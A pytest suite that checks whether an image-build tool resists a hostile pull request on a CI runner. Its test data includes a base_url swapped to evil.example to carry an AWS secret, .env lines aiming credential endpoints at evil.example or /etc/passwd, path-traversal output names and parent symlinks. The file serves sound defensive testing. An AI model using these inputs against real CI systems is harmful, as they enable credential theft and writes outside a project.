"""A pull request from a stranger, built with `--locked` by a runner that has the project's keys and its cache.

It can change every file of the checkout: manifest, lock, outputs, links, `.env`, `.imgbuild/`. It can neither spend,
nor read a secret, nor write outside the checkout, nor leave anything in the cache that a later build would take.
"""

from __future__ import annotations

import hashlib
import json
import shutil
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from attack_cases import tree
from hostile_service import HostileService
from pictures import GOOD, png
from project_folder import ProjectFolder, Run

from imgbuild.core.errors import UsageError
from imgbuild.core.manifest.model import CacheConfig
from imgbuild.run.shared_settings import shared_settings

SECRETS = {
    "AWS_SECRET_ACCESS_KEY": "sk-canary-of-the-runner",
    "GITHUB_TOKEN": "sk-canary-of-github",
    "OTHER_KEY": "sk-canary-of-another-provider",
}


@pytest.fixture
def runner(
    project: ProjectFolder, service: HostileService, copy_project: Callable[..., ProjectFolder]
) -> ProjectFolder:
    """The checkout of a pull request on a runner, whose cache has what the main branch was built from."""
    project.manifest(service.manifest().replace("size: 1024x1024", "size: 512x512"))
    service.gives(GOOD)
    project.json("build")
    service.got.clear()
    pull = copy_project(project, "pull", outputs=True)
    pull.environ |= SECRETS | {"CI": "true"}
    (pull.root.parent / "outside.txt").write_text("canary of a file outside")
    return pull


def assert_harmless(
    pull: ProjectFolder, service: HostileService, words: tuple[str, ...], *, codes: set[int]
) -> Run:
    """Run a command of the pull request, and look at everything that it must not have touched."""
    cache = Path(pull.environ["IMGBUILD_CACHE_DIR"])
    known = {name: content for name, content in tree(cache).items() if name.startswith("blobs")}
    beside = {
        name: content
        for name, content in tree(pull.root.parent).items()
        if not name.startswith(("pull", "cache", "home"))
    }
    home = tree(Path(pull.environ["HOME"]))
    rows = pull.run("cache", "stats", "--output-format", "json").out
    run = pull.run(*words)
    assert run.code in codes, f"exit {run.code}\n{run.out}\n{run.err}"
    assert service.got == [], "something was sent"
    assert "canary" not in run.out + run.err
    assert {name: content for name, content in tree(cache).items() if name.startswith("blobs")} == known
    assert pull.run("cache", "stats", "--output-format", "json").out == rows
    now = {
        name: content
        for name, content in tree(pull.root.parent).items()
        if not name.startswith(("pull", "cache", "home"))
    }
    assert now == beside
    assert tree(Path(pull.environ["HOME"])) == home
    return run


LOCKED = ("build", "--locked", "--output-format", "json")


def test_an_honest_pull_request_builds(runner: ProjectFolder, service: HostileService) -> None:
    assert_harmless(runner, service, LOCKED, codes={0})


@pytest.mark.parametrize("words", [LOCKED, ("build",), ("build", "--frozen"), ("plan",), ("check",)])
def test_it_cannot_spend(runner: ProjectFolder, service: HostileService, words: tuple[str, ...]) -> None:
    runner.edit("a lighthouse", "ten thousand lighthouses")
    runner.edit(
        "images:\n",
        "budget: {max_cost: 1000000}\nimages:\n  more: {prompt: p, takes: 50, output: out/more.png}\n",
    )
    run = assert_harmless(runner, service, words, codes={0} if words[0] in ("plan", "check") else {3})
    if words[0] == "build":
        assert not (runner.root / "out/more.png").exists()
        assert "hero" in run.out + run.err


def test_it_cannot_run_a_program(runner: ProjectFolder, service: HostileService) -> None:
    runner.edit("providers:\n", "providers:\n  mine: {type: command, command: [touch, owned]}\n")
    runner.edit("images:\n", "images:\n  more: {provider: mine, prompt: p, output: out/more.png}\n")
    said = assert_harmless(runner, service, ("check",), codes={0})
    assert "touch owned" in said.err
    assert "touch owned" in assert_harmless(runner, service, ("plan",), codes={0}).out
    assert_harmless(runner, service, LOCKED, codes={3})
    # Where generating is allowed and the program's name is trusted, running it still takes a word.
    runner.environ["IMGBUILD_TRUSTED_ORIGINS"] = "mine"
    run = assert_harmless(runner, service, ("build", "--generate", "more"), codes={2})
    assert "--allow-command" in run.err
    assert not (runner.root / "owned").exists()
    assert runner.run("build", "--generate", "--allow-command", "more").code == 1
    assert (runner.root / "owned").exists()


def test_it_cannot_send_a_key_elsewhere(
    runner: ProjectFolder, service: HostileService, elsewhere: HostileService
) -> None:
    runner.edit(f"base_url: {service.url}", "base_url: https://evil.example")
    runner.edit("${STUDIO_KEY}", "${AWS_SECRET_ACCESS_KEY}")
    run = assert_harmless(runner, service, ("plan",), codes={0})
    assert "https://evil.example" in run.out
    assert_harmless(runner, service, LOCKED, codes={0, 3})
    runner.edit("a lighthouse", "another")
    # Not even where generating is allowed: nobody trusted that address. A `.env` of the pull request says nothing.
    runner.write(".env", "IMGBUILD_TRUSTED_ORIGINS=https://evil.example\nCI=false\n")
    run = assert_harmless(runner, service, ("build", "--generate", "-y"), codes={2})
    assert "https://evil.example" in run.err


SECRET_READERS = {
    "a prompt file": "more: {prompt_file: X, output: out/more.png}",
    "an included text": "more: {prompt: \"{% include 'X' %}\", output: out/more.png}",
    "data": "more: {foreach: {yaml: X}, prompt: '{{ item }}', output: 'out/{{ item.id }}.png'}",
    "a reference": "more: {prompt: p, references: [X], output: out/more.png}",
}


@pytest.mark.parametrize("kind", SECRET_READERS)
@pytest.mark.parametrize("name", [".env", "../outside.txt", "link", "up/outside.txt"])
def test_it_cannot_read_a_secret(
    runner: ProjectFolder, service: HostileService, kind: str, name: str
) -> None:
    (runner.root / ".env").write_text("OTHER=canary of the dot file\n")
    (runner.root / "link").symlink_to(".env")
    (runner.root / "up").symlink_to("..")
    runner.edit("images:\n", "images:\n  " + SECRET_READERS[kind].replace("X", name) + "\n")
    for words in (LOCKED, ("plan",)):
        assert_harmless(runner, service, words, codes={2})


def test_it_cannot_read_the_environment(runner: ProjectFolder, service: HostileService) -> None:
    runner.edit("a lighthouse", "'${AWS_SECRET_ACCESS_KEY} $GITHUB_TOKEN {{ env }}'")
    assert_harmless(runner, service, ("plan",), codes={2})
    runner.edit(" {{ env }}", "")
    assert_harmless(runner, service, ("plan", "-v"), codes={0})
    assert_harmless(runner, service, ("explain", "hero"), codes={0})


@pytest.mark.parametrize("output", ["../victim.png", "out/../../victim.png", "up/victim.png"])
def test_it_cannot_write_outside(runner: ProjectFolder, service: HostileService, output: str) -> None:
    (runner.root / "up").symlink_to("..")
    lock = runner.lock
    lock["images"]["hero"]["outputs"] = {output: next(iter(lock["images"]["hero"]["outputs"].values()))}
    runner.write("imgbuild.lock", json.dumps(lock))
    for words in (LOCKED, ("restore",), ("clean",)):
        assert_harmless(runner, service, words, codes={0, 1, 2, 3})
    runner.edit("out/hero.png", output)
    for words in (LOCKED, ("restore",), ("build", "--overwrite")):
        assert_harmless(runner, service, words, codes={1, 2, 3})
    assert not (runner.root.parent / "victim.png").exists()


def test_it_cannot_plant_a_picture_in_the_cache(
    runner: ProjectFolder, service: HostileService, copy_project: Callable[..., ProjectFolder]
) -> None:
    """The lock and the output are its own, and agree: it builds. Nobody else ever sees that picture."""
    evil = png(512, 512)
    path = next(iter(runner.lock["images"]["hero"]["outputs"]))
    honest = runner.read(path)
    lock = runner.lock
    lock["images"]["hero"]["outputs"][path] |= {
        "bytes": len(evil),
        "digest": hashlib.sha256(evil).hexdigest(),
    }
    runner.write("imgbuild.lock", json.dumps(lock, indent=2, sort_keys=True) + "\n")
    runner.write(path, evil)
    assert_harmless(runner, service, LOCKED, codes={0, 1, 3})
    # The main branch, afterwards, with the same cache: as if nothing had been.
    main = ProjectFolder(runner.root.parent / "project", dict(runner.environ))
    (main.root / path).unlink()
    assert main.json("build", "--locked").counts() == {"restored": 1}
    assert main.read(path) == honest


def test_a_whole_imgbuild_folder_of_its_own_is_not_believed(
    runner: ProjectFolder, service: HostileService
) -> None:
    """An index, memories and lists that were made elsewhere, by somebody who may do as they like there."""
    theirs = ProjectFolder(runner.root.parent / "project", dict(runner.environ))
    runner.environ["IMGBUILD_CACHE_DIR"] = str(runner.root.parent / "cache-of-the-runner")
    shutil.copytree(Path(theirs.environ["IMGBUILD_CACHE_DIR"]), Path(runner.environ["IMGBUILD_CACHE_DIR"]))
    shutil.rmtree(runner.root / ".imgbuild", ignore_errors=True)
    shutil.copytree(theirs.root / ".imgbuild", runner.root / ".imgbuild")
    runner.write(next(iter(runner.lock["images"]["hero"]["outputs"])), b"not a picture")
    # The index says that all is well; what lies on the disk says otherwise.
    run = runner.run("build", "--locked")
    assert run.code in (1, 3)
    for name in [path.name for path in (runner.root / ".imgbuild").iterdir() if path.is_file()]:
        runner.write(f".imgbuild/{name}", b"\x1b[2J" + b"\xff" * 100)
        assert runner.run("build", "--locked").code in (1, 3)
    for name in ("gallery", "thumbnails", "index-imgbuild.yaml-", "entries-imgbuild.yaml-"):
        shutil.rmtree(runner.root / ".imgbuild", ignore_errors=True)
        (runner.root / ".imgbuild").mkdir()
        (runner.root / ".imgbuild" / name).symlink_to(runner.root.parent / "outside.txt")
        runner.run("build", "--locked")
        assert (runner.root.parent / "outside.txt").read_text() == "canary of a file outside"
    shutil.rmtree(runner.root / ".imgbuild")
    (runner.root / ".imgbuild").symlink_to("..")
    assert runner.run("build", "--locked").code in (0, 1, 2, 3)
    assert not (runner.root.parent / ".gitignore").exists()


def test_references_that_were_never_fetched_are_named_first(
    runner: ProjectFolder, service: HostileService, elsewhere: HostileService
) -> None:
    link = f"{elsewhere.url}/style.png"
    runner.edit("prompt: a lighthouse", f"prompt: a lighthouse, references: ['{link}']")
    for words in (("check",), ("plan",)):
        said = assert_harmless(runner, service, words, codes={0})
        assert link in said.out + said.err
    # What nobody has fetched cannot be held against the lock: it is believed, and nothing is fetched.
    assert_harmless(runner, service, LOCKED, codes={0, 3})
    assert elsewhere.got == []


def test_a_branch_that_was_looked_at_leaves_no_claim_on_the_main_one(
    runner: ProjectFolder, service: HostileService, copy_project: Callable[..., ProjectFolder]
) -> None:
    """Both locks name one master, and bytes of their own for its output. A cache that has neither believes either."""
    clone = copy_project(runner, "pull-2", outputs=True, cache="cache-of-a-maintainer")
    path = next(iter(clone.lock["images"]["hero"]["outputs"]))
    honest = {name: clone.read(name) for name in (path, "imgbuild.lock")}
    evil, lock = png(512, 512), clone.lock
    digest = hashlib.sha256(evil).hexdigest()
    lock["images"]["hero"]["outputs"][path] |= {"bytes": len(evil), "digest": digest}
    clone.write("imgbuild.lock", json.dumps(lock, indent=2, sort_keys=True) + "\n")
    clone.write(path, evil)
    assert clone.json("build").counts() == {"unchanged": 1}
    for name, content in honest.items():
        clone.write(name, content)
    assert clone.json("build").counts() == {"unchanged": 1}
    assert clone.read(path) == honest[path]
    # Nor is that picture taken where no lock asks for it.
    (clone.root / "imgbuild.lock").unlink()
    (clone.root / path).unlink()
    assert clone.json("plan").summary["submitted"] == 1
    assert service.got == []


KEYS = {"AWS_ACCESS_KEY_ID": "sk-canary-id", "AWS_SECRET_ACCESS_KEY": "sk-canary-secret"}


def store_variables(folder: Path, **environ: str) -> Mapping[str, str]:
    """What sets up an object store for a project in `folder`."""
    return shared_settings(CacheConfig(), "s3://bucket/x", folder, KEYS | environ, required=False).variables


@pytest.mark.parametrize(
    "line",
    [
        "AWS_REGION=evil.example/#",
        "AWS_CONTAINER_CREDENTIALS_FULL_URI=https://evil.example",
        "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE=/etc/passwd",
        "AWS_WEB_IDENTITY_TOKEN_FILE=/etc/passwd",
        "AZURE_STORAGE_ACCOUNT_NAME=evil.example/",
        "AZURE_FEDERATED_TOKEN_FILE=/etc/passwd",
        "AWS_SECRET_ACCESS_KEY=another",
    ],
)
def test_it_cannot_lead_a_shared_caches_keys_elsewhere(tmp_path: Path, line: str) -> None:
    (tmp_path / ".env").write_text(f"{line}\n")
    assert store_variables(tmp_path) == KEYS


@pytest.mark.parametrize(
    "name", ["AWS_ENDPOINT", "AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_S3", "AZURE_STORAGE_ENDPOINT"]
)
def test_a_shared_caches_keys_go_to_an_endpoint_of_its_own_only_with_a_word(
    tmp_path: Path, name: str
) -> None:
    (tmp_path / ".env").write_text(f"{name}=https://evil.example/x\nAWS_REGION=eu-west-1\n")
    with pytest.raises(UsageError, match=r"https://evil\.example, which you have not trusted"):
        store_variables(tmp_path)
    word = {"IMGBUILD_TRUSTED_ORIGINS": "https://evil.example"}
    known = {name: "https://evil.example/x", "AWS_REGION": "eu-west-1"}
    assert store_variables(tmp_path, **word) == KEYS | word | known
    assert store_variables(tmp_path, **{name: "https://mine.example"})[name] == "https://mine.example"


@pytest.mark.parametrize("words", [LOCKED, ("plan",), ("check",)])
def test_it_cannot_make_the_runner_fetch_anything(
    runner: ProjectFolder, service: HostileService, words: tuple[str, ...]
) -> None:
    runner.edit(
        "images:\n",
        f"images:\n  more: {{prompt: p, references: ['{service.url}/x.png'], output: out/more.png}}\n",
    )
    run = assert_harmless(runner, service, words, codes={0} if words[0] in ("plan", "check") else {3})
    if words != LOCKED:
        assert "fetches a reference for the first time" in run.out + run.err


def test_it_cannot_write_into_a_shared_cache_of_its_choice(
    runner: ProjectFolder, service: HostileService
) -> None:
    folder = runner.root.parent / "victim"
    folder.mkdir()
    runner.edit("images:\n", f"cache: {{remote: 'file://{folder}', remote_write: true}}\nimages:\n")
    for words in (LOCKED, ("build",), ("restore",), ("plan",)):
        assert_harmless(runner, service, words, codes={0, 3})
    assert list(folder.iterdir()) == []
